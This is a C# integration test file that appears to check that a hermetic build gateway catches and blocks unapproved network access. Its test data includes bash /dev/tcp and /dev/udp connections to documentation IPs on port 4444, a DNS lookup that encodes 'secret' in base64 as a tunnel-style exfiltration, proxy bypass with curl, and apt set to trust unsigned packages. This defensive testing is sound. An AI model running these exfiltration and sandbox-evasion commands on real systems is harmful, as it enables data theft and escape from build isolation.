using Caisson.IntegrationTests.Testing;

namespace Caisson.IntegrationTests.Network;

/// <summary>Hermetic builds that try to reach what nobody allowed: each is caught, in the step that tries, with what was asked for, by whom, and the rule.</summary>
public sealed class CheatingTests(ExampleBases tools) : IAsyncLifetime
{
    private readonly WebServer _server = new();

    public async ValueTask InitializeAsync() => await tools.Tools;

    public ValueTask DisposeAsync() => _server.DisposeAsync();

    [Theory]
    [InlineData("bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444'", "tcp://192.0.2.1:4444")]
    [InlineData("bash -c 'exec 3<>/dev/tcp/2001:db8::1/4444'", "tcp://[2001:db8::1]:4444")]
    [InlineData("bash -c 'echo out > /dev/udp/192.0.2.1/5000'; sleep 5", "udp://192.0.2.1:5000")]
    [InlineData("getent hosts c2VjcmV0.tunnel.example; sleep 5", "dns://c2VjcmV0.tunnel.example")]
    [InlineData("unset http_proxy https_proxy HTTPS_PROXY ALL_PROXY all_proxy; curl -s --noproxy '*' https://192.0.2.1/", "tcp://192.0.2.1:443")]
    public async Task What_goes_past_the_gateway_ends_the_step(string command, string told)
    {
        Outcome outcome = await TryAsync($"RUN ({command}) || true; sleep 60");
        Assert.Contains($"CSN2170: the step asked for {told}", outcome.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Another_registry_is_not_asked()
    {
        Outcome outcome = await TryAsync("RUN curl -s https://registry.example/v2/library/alpine/manifests/latest; sleep 60");
        Assert.Contains("CSN2170: the step asked for GET https://registry.example/v2/library/alpine/manifests/latest, by curl -s https://registry.example/", outcome.Error, StringComparison.Ordinal);
        Assert.Contains("no rule allows it", outcome.Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("FROM registry.example/other:1\n", "CSN2173: the image registry.example/other:1 for linux/amd64 may not be used: no rule allows it")]
    [InlineData("FROM scratch\nADD https://other.example/file /\n", "CSN2173: the file https://other.example/file may not be used: no rule allows it")]
    [InlineData("FROM scratch\nADD https://other.example/repository.git /\n", "CSN2173: the repository https://other.example/repository.git may not be used: no rule allows it")]
    [InlineData("FROM scratch\nCOPY --from=registry.example/other:1 /a /\n", "CSN2173: the image registry.example/other:1 for linux/amd64 may not be used: no rule allows it")]
    public async Task A_source_that_nobody_allowed_is_not_used(string dockerfile, string message)
    {
        Outcome outcome = await TryBuildAsync(dockerfile);
        Assert.Contains(message, outcome.Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("RUN --network=host true", "the step has the machine's network")]
    [InlineData("RUN --security=insecure true", "the step is not kept from the machine")]
    public async Task A_step_that_would_need_no_gateway_is_refused(string step, string message)
    {
        Outcome outcome = await TryBuildAsync($"FROM {await tools.Tools}\n{step}\n", "--allow=network.host", "--allow=security.insecure");
        Assert.Contains(message, outcome.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_redirect_to_a_host_that_nobody_allowed_is_not_followed()
    {
        _server.Redirect("file", "https://other.example/file");
        Outcome outcome = await TryAsync("RUN curl -sL https://files.example/file; sleep 60");
        Assert.Contains("CSN2170: the step asked for GET https://other.example/file", outcome.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_submodule_elsewhere_is_not_fetched()
    {
        await Tool.ShellAsync(_server.Files, """
            git init -q part; git -C part -c user.name=x -c user.email=x@example.org commit -q --allow-empty -m first
            git init -q work; cd work
            git -c protocol.file.allow=always submodule add -q ../part part
            git config -f .gitmodules submodule.part.url https://elsewhere.example/part.git; git add .gitmodules
            git -c user.name=x -c user.email=x@example.org commit -qm first; cd ..
            git clone -q --bare work repository.git; git -C repository.git update-server-info
            """);
        Outcome outcome = await TryAsync("RUN git clone -q --recurse-submodules https://files.example/repository.git /src; sleep 60");
        Assert.Contains("CSN2170: the step asked for GET https://elsewhere.example/part.git/info/refs?service=git-upload-pack", outcome.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_file_that_is_not_what_the_policy_demands_is_not_used()
    {
        _server.File("file", "changed");
        string rule = """{"action":"ALLOW","selector":{"identifier":"ADDRESS/file"},"updates":{"attrs":{"http.checksum":"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}}""".Replace("ADDRESS", _server.Address, StringComparison.Ordinal);
        Outcome outcome = await TryAsync("RUN curl -fsS https://files.example/file; sleep 60", rule);
        Assert.Contains("it is not what the policy demands: expected sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855, got sha256:", outcome.Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(true, false, null)]
    [InlineData(true, true, "its digest is not the one in the signed index")]
    [InlineData(false, false, "the release is not signed by a key of the keyring")]
    public async Task A_package_must_be_the_one_in_the_signed_index(bool isSignedByTrusted, bool isSwapped, string? message)
    {
        using PackageRepository repository = await PackageRepository.CreateAsync();
        string key = await repository.NewKeyAsync("trusted");
        string other = await repository.NewKeyAsync("other");
        await repository.SignAsync(isSignedByTrusted ? "trusted" : "other");
        if (isSwapped)
            await repository.SwapPackageAsync();
        await Tool.ShellAsync(_server.Files, $"cp -r {repository.Address["file://".Length..]} debian");
        string rule = """{"action":"ALLOW","selector":{"identifier":"ADDRESS/debian/*"},"updates":{"attrs":{"deb.keyring":"KEY"}}}"""
            .Replace("ADDRESS", _server.Address, StringComparison.Ordinal).Replace("KEY", key, StringComparison.Ordinal);
        // Whoever cheats tells apt to look at nothing.
        Outcome outcome = await TryAsync($"""
            RUN rm /etc/apt/sources.list.d/* /etc/apt/sources.list 2>/dev/null; echo 'deb [trusted=yes] https://files.example/debian {PackageRepository.Suite} main' > /etc/apt/sources.list && apt-get update
            RUN apt-get install -y {PackageRepository.Package} || (apt-get download {PackageRepository.Package} && curl -fsS https://files.example/debian/pool/{PackageRepository.Package}_1.0-1_all.deb -o /x)
            """, rule);
        if (message is null)
            outcome.Succeeded();
        else
            Assert.Contains(message, outcome.Error, StringComparison.Ordinal);
        Assert.NotEqual(key, other);
    }

    [Fact]
    public async Task A_program_that_goes_away_early_does_not_hide_what_it_took()
    {
        _server.File("file", "payload" + new string('x', 4_000_000));
        string rule = """{"action":"ALLOW","selector":{"identifier":"ADDRESS/file"},"updates":{"attrs":{"http.checksum":"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}}""".Replace("ADDRESS", _server.Address, StringComparison.Ordinal);
        Outcome outcome = await TryAsync("RUN curl -fsS https://files.example/file | head -c 7 > /got; test -s /got", rule);
        Assert.NotEqual(0, outcome.ExitCode);
        Assert.Contains("it is not what the policy demands", outcome.Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("https://files.example/file#.deb")]
    [InlineData("https://files.example/file?.deb")]
    public async Task What_is_judged_is_what_is_sent(string address)
    {
        _server.File("file", "content");
        string rule = """{"action":"ALLOW","selector":{"identifier":"ADDRESS/*#.deb"}}""".Replace("ADDRESS", _server.Address, StringComparison.Ordinal);
        Outcome outcome = await TryAsync($"RUN curl -fsS --path-as-is '{address}'; sleep 60", rule);
        Assert.Contains("CSN2170: the step asked for GET https://files.example/file", outcome.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_a_rule_lets_pass_unseen_is_told_of_as_such()
    {
        _server.File("file", "seen by nobody");
        string authority = new Uri(_server.Address).Authority;
        string rule = """{"action":"ALLOW","selector":{"identifier":"https://AUTHORITY/*"},"updates":{"attrs":{"tls":"tunnel"}}}""".Replace("AUTHORITY", authority, StringComparison.Ordinal);
        Outcome outcome = await TryAsync($"RUN curl -fsSk --noproxy '' https://{authority}/file", rule);
        outcome.Succeeded();
        Assert.Contains("seen by nobody", outcome.Error, StringComparison.Ordinal);
    }

    private async Task<Outcome> TryAsync(string steps, string? rule = null) => await TryBuildAsync($"FROM {await tools.Tools}\n{steps}\n", rule is null ? [] : ["--rule", rule]);

    private async Task<Outcome> TryBuildAsync(string dockerfile, params string[] more)
    {
        using Project project = new(tools.Store, dockerfile);
        string own = """{"action":"ALLOW","selector":{"identifier":"docker-image://docker.io/library/gateway-tools:test"}}""";
        string rule = more is ["--rule", var given] ? given : _server.Allow;
        project.File("policy.json", "{\"rules\":[" + string.Join(',', own, rule, _server.Rule) + "]}");
        string[] options = more is ["--rule", ..] ? [] : more;
        return await project.TryBuildAsync(["--hermetic", "--policy=policy.json", "--ca", _server.CertificatePath, "--no-cache", .. options]);
    }
}
